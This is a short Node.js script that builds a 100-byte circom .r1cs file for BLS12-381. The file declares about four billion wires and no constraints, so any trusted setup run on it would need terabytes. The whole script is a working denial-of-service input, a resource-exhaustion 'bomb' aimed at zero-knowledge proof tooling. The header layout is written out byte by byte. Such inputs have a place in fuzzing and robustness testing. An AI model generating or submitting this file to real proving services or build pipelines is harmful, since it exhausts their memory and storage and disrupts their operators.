// node r1cs_bomb.cjs OUT: a 100-byte circom .r1cs (BLS12-381) claiming 2^32 − 1 wires and no
// constraints — valid as a file, a setup for it would need terabytes.
const fs = require("fs");
const r = 0x73eda753299d7d483339d80809a1d80553bda402fffe5bfeffffffff00000001n;
const b = Buffer.alloc(12 + 12 + 64 + 12);
b.write("r1cs", 0);
b.writeUInt32LE(1, 4); // version
b.writeUInt32LE(2, 8); // sections: header, constraints
b.writeUInt32LE(1, 12);
b.writeBigUInt64LE(64n, 16);
b.writeUInt32LE(32, 24); // n8, then the prime little-endian
for (let i = 0; i < 32; i++) b[28 + i] = Number((r >> BigInt(8 * i)) & 0xffn);
b.writeUInt32LE(0xffffffff, 60); // nWires; nPubOut, nPubIn, nPrvIn, nLabels, mConstraints: 0
b.writeUInt32LE(2, 88);
b.writeBigUInt64LE(0n, 92);
fs.writeFileSync(process.argv[2], b);
